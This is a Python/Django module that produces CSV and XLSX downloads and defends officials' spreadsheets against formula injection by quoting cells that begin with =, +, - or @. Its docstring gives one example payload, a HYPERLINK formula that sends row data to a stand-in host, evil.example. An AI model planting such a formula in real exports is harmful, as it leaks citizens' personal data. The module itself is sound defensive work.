"""Tables that people open in a spreadsheet: the CSV and XLSX downloads of every export.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice
and Google Sheets, and so is one starting with a tab or a carriage return followed by one of
those. A citizen who answers ``=HYPERLINK("https://evil.example/?"&A2, "…")`` would otherwise
run it on an official's computer, leaking the other rows. Following OWASP's CSV injection
guidance, ``spreadsheet_cell`` prefixes such a cell with a single quote, which spreadsheets read
as "this is text"; it also looks past leading whitespace and invisible characters, since
spreadsheets skip them before deciding. The price is a visible quote before answers such as
``+79101234567``: officials can read it, while a formula cannot be made harmless afterwards.

Every export goes through ``csv_response`` or ``xlsx_response``, which pass each cell through
``spreadsheet_cell``: a new export gets the protection by using them, with no second place to
remember it. XLSX cells are written as strings explicitly, because openpyxl turns any string
starting with ``=`` into a formula and ``#N/A``-like strings into error cells.

This module knows nothing of the domain, so any layer may use it.
"""

import csv
import datetime
import io
import re

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# What a spreadsheet skips before it looks for a formula: whitespace (Unicode's too), control
# characters and the zero-width ones.
_LEADING_INVISIBLE = re.compile(r"^[\s\x00-\x1f\x7f\u200b-\u200d\u2060\ufeff]*")

DATETIME_FORMAT = "%d.%m.%Y %H:%M"
XLSX_DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSX_MAX_COLUMN_WIDTH = 60


def spreadsheet_cell(value):
    """``value`` as a spreadsheet may safely hold it: text that can never run as a formula.

    Strings that a spreadsheet would read as a formula get a leading single quote. The control
    characters no spreadsheet can hold (XML 1.0 forbids them in XLSX) are dropped, so CSV and
    XLSX carry the same text. Numbers and dates pass through; ``None`` becomes "".
    """
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    visible = value[_LEADING_INVISIBLE.match(value).end() :]
    if value.startswith(FORMULA_TRIGGERS) or visible.startswith(FORMULA_TRIGGERS):
        value = "'" + value
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def local_datetime(value):
    """An aware datetime in the site's time zone, naive: spreadsheets have no time zones."""
    if timezone.is_aware(value):
        value = timezone.localtime(value)
    return value.replace(tzinfo=None)


def download(response, filename):
    """Headers of a download that holds personal data: an attachment nobody may cache."""
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "private, no-store"
    return response


def csv_response(filename, header, rows):
    """A UTF-8 CSV download of ``header`` and ``rows``, every cell made safe."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    # The byte order mark makes Excel read the file as UTF-8, so Cyrillic is not garbled.
    response.write("\ufeff")
    writer = csv.writer(response)
    for row in [header, *rows]:
        writer.writerow(csv_value(value) for value in row)
    return download(response, filename)


def csv_value(value):
    if isinstance(value, datetime.datetime):
        return local_datetime(value).strftime(DATETIME_FORMAT)
    return spreadsheet_cell(value)


def xlsx_response(filename, title, header, rows):
    """An XLSX download: a bold, frozen, filterable header row above ``rows``.

    Strings are stored as strings (never formulas or error codes), datetimes as dates shown
    the Russian way, so officials can sort and filter without converting anything.
    """
    rows = list(rows)
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    sheet.freeze_panes = "A2"
    for index, width in enumerate(column_widths(header, rows), start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    bold = Font(bold=True)
    sheet.append([xlsx_cell(sheet, value, font=bold) for value in header])
    for row in rows:
        sheet.append([xlsx_cell(sheet, value) for value in row])
    if header:
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(header))}{len(rows) + 1}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE)
    return download(response, filename)


def xlsx_cell(sheet, value, font=None):
    if isinstance(value, datetime.datetime):
        cell = WriteOnlyCell(sheet, value=local_datetime(value))
        cell.number_format = XLSX_DATETIME_FORMAT
    else:
        value = spreadsheet_cell(value)
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
    if font is not None:
        cell.font = font
    return cell


def column_widths(header, rows):
    """Each column as wide as its longest line of text, within reason."""
    widths = [len(str(value)) for value in header]
    for row in rows:
        for index, value in enumerate(row):
            text = csv_value(value)
            longest = max((len(line) for line in str(text).splitlines()), default=0)
            widths[index] = max(widths[index], longest)
    return [min(width + 2, XLSX_MAX_COLUMN_WIDTH) for width in widths]
